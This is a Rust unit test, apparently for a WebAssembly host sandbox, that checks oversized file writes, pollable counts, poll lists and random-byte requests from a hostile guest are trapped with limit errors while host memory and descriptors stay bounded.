fn file_writes_pollables_poll_lists_and_random_bytes_are_bounded() {
    let _serial = one_at_a_time();
    let mut host = Host::start(&Setup {
        scratch_dir: true,
        ..Setup::default()
    });
    for (name, marker, expect) in [
        (
            "file-write",
            "hostile:file-write:33554432",
            "past the stream's check-write permit",
        ),
        (
            "pollables",
            "hostile:pollables:2000000",
            "resource table is full",
        ),
        (
            "poll-list",
            "hostile:poll-list:1000000",
            "more than the 4096 one call may wait on",
        ),
        ("random", "hostile:random:67108864", "exceeds limit"),
    ] {
        let seen = host.observe(name, &[marker.into()], Duration::from_secs(30));
        seen.assert_call_bounded();
        let (_kind, message) = seen.trap();
        assert!(message.contains(expect), "{name}: {message}");
        seen.assert_host_bounded(HOST_MEMORY_KIB + (64 << 10), DESCRIPTORS + HOST_FDS);
        seen.assert_victim_kept_pace();
    }
}
